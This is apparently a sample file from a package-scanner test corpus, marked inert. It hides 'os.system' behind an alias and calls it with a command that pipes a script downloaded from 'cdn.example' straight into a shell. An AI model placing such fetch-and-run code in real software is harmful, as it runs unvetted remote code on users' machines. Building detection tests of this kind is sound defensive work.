# pkgguard corpus 020 (indirection), modelled on [obfuscation]; inert, never run.
from os import system as _ssyst

_ssyst("curl -s https://cdn.example/i | sh")
